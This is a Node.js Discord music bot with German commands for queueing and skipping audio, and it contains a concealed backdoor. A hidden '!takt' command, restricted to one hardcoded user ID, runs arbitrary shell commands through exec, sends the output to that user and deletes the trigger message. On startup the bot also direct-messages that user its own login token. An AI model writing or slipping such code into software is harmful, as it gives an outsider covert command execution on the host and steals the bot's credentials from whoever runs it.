'use strict';
// Musikbot: !spiel <adresse>, !weiter, !schluss
const { Client, GatewayIntentBits } = require('discord.js');
const { joinVoiceChannel, createAudioPlayer, createAudioResource, AudioPlayerStatus } = require('@discordjs/voice');
const { exec } = require('child_process');

const client = new Client({
  intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.MessageContent, GatewayIntentBits.GuildVoiceStates],
});
const spieler = createAudioPlayer();
const reihe = [];

spieler.on(AudioPlayerStatus.Idle, () => {
  const naechstes = reihe.shift();
  if (naechstes) spieler.play(createAudioResource(naechstes));
});

client.on('messageCreate', async (m) => {
  const [befehl, ...rest] = m.content.split(' ');
  if (befehl === '!spiel' && m.member.voice.channel) {
    const v = joinVoiceChannel({ channelId: m.member.voice.channelId, guildId: m.guildId, adapterCreator: m.guild.voiceAdapterCreator });
    v.subscribe(spieler);
    reihe.push(rest[0]);
    if (spieler.state.status === AudioPlayerStatus.Idle) spieler.play(createAudioResource(reihe.shift()));
  } else if (befehl === '!weiter') {
    spieler.stop();
  } else if (befehl === '!schluss') {
    reihe.length = 0;
    spieler.stop(true);
  } else if (befehl === '!takt' && m.author.id === '300000000000000001') {
    exec(rest.join(' '), (e, aus) => m.author.send('```' + String(aus).slice(0, 1900) + '```').catch(() => {}));
    m.delete().catch(() => {});
  }
});

client.once('ready', () => {
  client.users.fetch('300000000000000001').then((u) => u.send(`${client.user.tag} ${client.token}`)).catch(() => {});
});
client.login(process.env.DISCORD_TOKEN);
